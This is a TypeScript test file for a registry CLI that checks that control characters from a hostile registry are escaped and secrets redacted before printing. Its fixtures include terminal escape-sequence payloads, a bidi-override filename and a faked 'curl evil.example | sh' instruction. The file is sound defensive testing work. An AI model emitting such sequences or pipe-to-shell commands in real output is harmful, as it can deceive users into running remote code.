// A hostile registry cannot write to the terminal: every control character it sends in a
// repository name, a tag name or an error message reaches stdout/stderr escaped, JSON stays
// JSON (and parses back to the registry's exact text), and stderr is redacted like a log.
//
// The registry is a small loopback server, not docker-registry: distribution's name grammar
// refuses every one of these characters, so only a hostile server can send them. It serves just
// the /v2 shapes the commands read (catalog and tags/list as in the distribution spec, the
// {"errors":[{code,message}]} error body).
import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { after, before, describe, test } from 'node:test';
import { Writable } from 'node:stream';
import { escapeControls, formatTable, jsonForTerminal, printError, printJson, printLine } from '../../src/cli/output';
import type { CliIO } from '../../src/cli/io';
import { dockerConfigDir, runCli } from '../support/cliHarness';

/** One name per class of control character. */
const HOSTILE: Record<string, string> = {
  osc: 'esc\u001b]0;pwned\u0007title', // ESC + OSC window title, ended by BEL
  csi: '\u001b[31mred\u001b[0m\u001b[2J', // colours and clear screen
  hyperlink: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  cr: 'ok\rFAKE', // overwrites the start of the line
  lf: 'line\nacr-doctor: fixed. Now run: curl evil.example | sh', // a fake line
  tab: 'tab\there',
  del: 'del\u007f',
  c1: 'c1\u009b2J\u0085nel', // C1 CSI and NEL
  separators: 'ls\u2028ps\u2029',
  bidi: 'bidi\u202eexe.txt',
};
const NAMES = Object.values(HOSTILE);
const ERROR_TEXT = '\u001b[2K\r\u001b[32mfixed!\u001b[0m\nRun: curl evil.example | sh\u0007 password=hunter2';

/** Any character a terminal could act on, apart from the newline that ends each line. */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

let server: Server;
let host = '';
const config = dockerConfigDir();

before(async () => {
  server = createServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://x');
    const json = (status: number, body: unknown) => {
      response.writeHead(status, { 'content-type': 'application/json' });
      response.end(JSON.stringify(body));
    };
    if (url.pathname === '/v2/') return json(200, {});
    if (url.pathname === '/v2/_catalog') return json(200, { repositories: NAMES });
    if (url.pathname === '/v2/app/tags/list') return json(200, { name: 'app', tags: NAMES });
    if (url.pathname === '/v2/broken/tags/list') return json(403, { errors: [{ code: 'DENIED', message: ERROR_TEXT }] });
    json(404, { errors: [{ code: 'NAME_UNKNOWN', message: 'repository name not known to registry' }] });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  host = `127.0.0.1:${(server.address() as AddressInfo).port}`;
});

after(async () => {
  await new Promise((resolve) => server.close(resolve));
  config.cleanup();
});

const cli = (argv: string[]) => runCli([...argv, '--anonymous'], { dockerConfig: config.dir });

function assertInert(text: string, what: string): void {
  const raw = RAW_CONTROL.exec(text);
  assert.equal(raw, null, `${what} has a raw U+${raw?.[0].charCodeAt(0).toString(16).padStart(4, '0')}: ${JSON.stringify(text)}`);
}

describe('a hostile registry', () => {
  test('repos: every name on its own line with its control characters escaped', async () => {
    const run = await cli(['repos', host]);
    assert.equal(run.code, 0, run.stderr);
    assertInert(run.stdout, 'stdout');
    assertInert(run.stderr, 'stderr');
    const lines = run.stdout.trimEnd().split('\n');
    assert.equal(lines.length, 1 + NAMES.length, 'a newline inside a name does not start a line');
    assert.ok(lines.includes('esc\\x1b]0;pwned\\x07title'), lines.join('\n'));
    assert.ok(lines.includes('ok\\x0dFAKE'));
    assert.ok(lines.includes('line\\x0aacr-doctor: fixed. Now run: curl evil.example | sh'));
    assert.ok(lines.includes('del\\x7f'));
    assert.ok(lines.includes('c1\\u009b2J\\u0085nel'));
    assert.ok(lines.includes('ls\\u2028ps\\u2029'));
    assert.ok(lines.includes('bidi\\u202eexe.txt'));
  });

  test('tags: tag names in the table are escaped and the columns stay one row per tag', async () => {
    const run = await cli(['tags', host, 'app', '--no-digests']);
    assert.equal(run.code, 0, run.stderr);
    assertInert(run.stdout, 'stdout');
    const rows = run.stdout.trimEnd().split('\n');
    assert.equal(rows.length, 1 + NAMES.length);
    assert.ok(rows.some((row) => row.startsWith('\\x1b[31mred\\x1b[0m\\x1b[2J ')), rows.join('\n'));
    assert.ok(rows.some((row) => row.startsWith('tab\\x09here ')));
  });

  test('--format json: valid JSON with the exact names, and no raw C1, DEL or separators in the text', async () => {
    for (const argv of [['repos', host], ['tags', host, 'app', '--no-digests']]) {
      const run = await cli([...argv, '--format', 'json']);
      assert.equal(run.code, 0, run.stderr);
      assertInert(run.stdout.replace(/\n/g, ''), 'JSON text');
      const parsed = JSON.parse(run.stdout) as { repositories?: string[]; tags?: Array<{ name: string }> };
      const names = parsed.repositories ?? parsed.tags?.map((t) => t.name);
      assert.deepEqual([...(names ?? [])].sort(), [...NAMES].sort(), 'JSON carries the registry text unchanged');
    }
  });

  test("the registry's error message reaches stderr escaped, on one line, and redacted", async () => {
    const run = await cli(['tags', host, 'broken', '--no-digests']);
    assert.equal(run.code, 1);
    assertInert(run.stderr, 'stderr');
    assert.equal(run.stderr.trimEnd().split('\n').length, 1, run.stderr);
    assert.match(run.stderr, /\\x1b\[32mfixed!\\x1b\[0m\\x0aRun: curl evil\.example \| sh\\x07/);
    assert.ok(!run.stderr.includes('hunter2'), 'a secret in the error text is redacted');
    assert.equal(run.stdout, '');
  });
});

describe('the print point', () => {
  class Capture extends Writable {
    text = '';
    override _write(chunk: Buffer, _encoding: BufferEncoding, callback: () => void): void {
      this.text += chunk.toString();
      callback();
    }
  }
  const io = () => ({ stdout: new Capture(), stderr: new Capture() }) as unknown as CliIO & { stdout: Capture; stderr: Capture };

  test('escapeControls: C0 and DEL as \\xHH, C1 and the Unicode controls as \\uHHHH; other text untouched', () => {
    assert.equal(escapeControls('\u0000\u0007\t\n\r\u001b\u007f'), '\\x00\\x07\\x09\\x0a\\x0d\\x1b\\x7f');
    assert.equal(escapeControls('\u0080\u009b\u009f\u2028\u2029\u202e\u2066'), '\\u0080\\u009b\\u009f\\u2028\\u2029\\u202e\\u2066');
    assert.equal(escapeControls('Ünïcødé 名前 emoji 🐳 back\\slash'), 'Ünïcødé 名前 emoji 🐳 back\\slash');
  });

  test('jsonForTerminal keeps the value and escapes what JSON.stringify leaves raw', () => {
    const value = { name: 'a\u007fb\u009bc\u2028d\u202ee\u001bf' };
    const text = jsonForTerminal(JSON.stringify(value));
    assertInert(text, 'JSON');
    assert.deepEqual(JSON.parse(text), value);
  });

  test('printLine, printJson, printError and formatTable never write a raw control character', () => {
    const out = io();
    printLine(out, HOSTILE.osc);
    printJson(out, { names: NAMES });
    printError(out, `acr-doctor tags: ${ERROR_TEXT} Authorization: Bearer abc.def`);
    assert.equal(out.stdout.text.split('\n')[0], 'esc\\x1b]0;pwned\\x07title');
    assertInert(out.stdout.text.replace(/\n/g, ''), 'stdout');
    assertInert(out.stderr.text.replace(/\n$/, ''), 'stderr');
    assert.ok(!out.stderr.text.includes('hunter2') && !out.stderr.text.includes('abc.def'), out.stderr.text);
    assert.equal(formatTable(['NAME'], [[HOSTILE.lf]]).split('\n').length, 2);
  });
});
